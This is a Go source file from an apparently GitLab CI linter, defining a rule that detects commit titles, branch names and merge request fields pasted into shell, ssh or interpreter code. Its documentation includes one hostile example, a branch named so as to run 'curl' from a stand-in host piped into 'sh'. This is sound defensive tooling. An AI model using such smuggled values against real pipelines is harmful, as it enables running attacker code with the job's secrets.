package rules

import (
	"slices"
	"strings"

	"gitlab.com/pipewright/pipewright/ci/script"
	"gitlab.com/pipewright/pipewright/lint"
)

// ScriptInjection reports values that outsiders choose and that become a part of code.
var ScriptInjection = &lint.Analyzer{
	Name:     "script-injection",
	Group:    lint.Scripts,
	Severity: lint.Warning,
	Preset:   lint.Recommended,
	Since:    "0.1.0",
	Doc: `a commit message, a title or the name of a branch becomes a part of code

Who writes the commit or opens the merge request chooses the text. Where it is pasted into
code, its quotes end those of the code, and the rest of it runs: in the job, with its secrets,
or on the server behind ssh. A branch may be called x;curl${IFS}evil.sh|sh.

    sh -c "notify '$CI_COMMIT_TITLE'"              runs what the title says
    sh -c 'notify "$1"' sh "$CI_COMMIT_TITLE"      hands it on as a word

A plain "$CI_COMMIT_TITLE" is fine: the shell does not read a value as code. Python, Node.js
and their kin find it in the environment; for ssh, ${CI_COMMIT_REF_NAME@Q} puts quotes around
the value in bash, and CI_COMMIT_REF_SLUG and CI_COMMIT_SHA need none.`,
	Bad:  "deploy:\n  script:\n    - ssh deploy@app.acme.io \"git checkout $CI_COMMIT_REF_NAME\"\n",
	Good: "deploy:\n  script:\n    - ssh deploy@app.acme.io \"git checkout $CI_COMMIT_SHA\"\n",
	Run:  scriptInjection,
}

// outsideVariables hold what whoever commits or opens a merge request chooses.
// Source: docs: ci/variables/predefined_variables.
var outsideVariables = []string{
	"CI_BUILD_REF_NAME", "CI_COMMIT_AUTHOR", "CI_COMMIT_BRANCH", "CI_COMMIT_DESCRIPTION", "CI_COMMIT_MESSAGE", "CI_COMMIT_REF_NAME",
	"CI_COMMIT_TAG_MESSAGE", "CI_COMMIT_TITLE", "CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME", "CI_MERGE_REQUEST_DESCRIPTION",
	"CI_MERGE_REQUEST_SOURCE_BRANCH_NAME", "CI_MERGE_REQUEST_TITLE", "GITLAB_USER_NAME",
}

func scriptInjection(pass *lint.Pass) error {
	for s, cmd := range commandsIn(pass, outsideVariables...) {
		for _, w := range shellWords(cmd) {
			for i := range w.Parts {
				if p := &w.Parts[i]; p.Pasted && fromOutside(p.Var) {
					s.report(pass, injection(p.Var, runnerOf(cmd)))
				}
			}
		}
		language, programs := programsOf(cmd)
		for _, w := range programs {
			if i := slices.IndexFunc(w.Uses(), fromOutside); i >= 0 {
				s.report(pass, injection(w.Uses()[i], language))
			}
		}
	}
	return nil
}

func injection(v *script.Use, runner string) lint.Finding {
	return lint.Findingf(v.Span(), "%q, which outsiders choose, becomes a part of the code that %s runs: "+
		"hand it on as a word or a variable of the environment", "$"+v.Name, runner)
}

// fromOutside reports whether a use has a value that outsiders choose, as they wrote it.
func fromOutside(v *script.Use) bool {
	return v != nil && valueOps[v.Op] && slices.Contains(outsideVariables, v.Name)
}

// shellWords returns the words of a command with the values of its assignments and its here-documents.
func shellWords(cmd *script.Command) []*script.Word {
	words := slices.Clone(cmd.Words)
	for _, a := range cmd.Assigns {
		if a.Value != nil {
			words = append(words, a.Value)
		}
	}
	for _, r := range cmd.Redirects {
		for _, w := range []*script.Word{r.Target, r.Here} {
			if w != nil {
				words = append(words, w)
			}
		}
	}
	return words
}

// runnerOf returns the name of the command whose script a command stands in.
func runnerOf(cmd *script.Command) string {
	for n := cmd.Parent(); n != nil; n = n.Parent() {
		if c, ok := n.(*script.Compound); ok && c.Kind == script.Nested {
			return c.Name
		}
	}
	return "the shell"
}

// programOptions are the options behind which a command takes a program.
var programOptions = map[string][]string{
	"python": {"-c"}, "python3": {"-c"}, "node": {"-e", "--eval", "-p", "--print"}, "perl": {"-e", "-E"}, "ruby": {"-e"}, "php": {"-r"},
	"psql": {"-c", "--command"}, "mysql": {"-e", "--execute"}, "mariadb": {"-e", "--execute"},
	"awk": nil, "gawk": nil, "sed": {"-e", "--expression"},
}

// programsOf returns the words of a command that are read as code, but for those that ci/script reads itself.
func programsOf(cmd *script.Command) (language string, words []*script.Word) {
	name := cmd.Base()
	options, known := programOptions[name]
	switch {
	case name == "eval" && cmd.Script() == nil:
		return name, cmd.Args()
	case !known:
		return "", nil
	}
	if len(options) > 0 {
		if w, ok := cmd.Option(options...); ok && w != nil {
			return name, []*script.Word{w}
		}
	}
	if name != "sed" && !strings.HasSuffix(name, "awk") {
		return "", nil
	}
	operands := cmd.Operands("-v", "-F", "-f", "-l", "-s")
	if cmd.Has("-f") || len(operands) == 0 {
		return "", nil
	}
	return name, operands[:1]
}
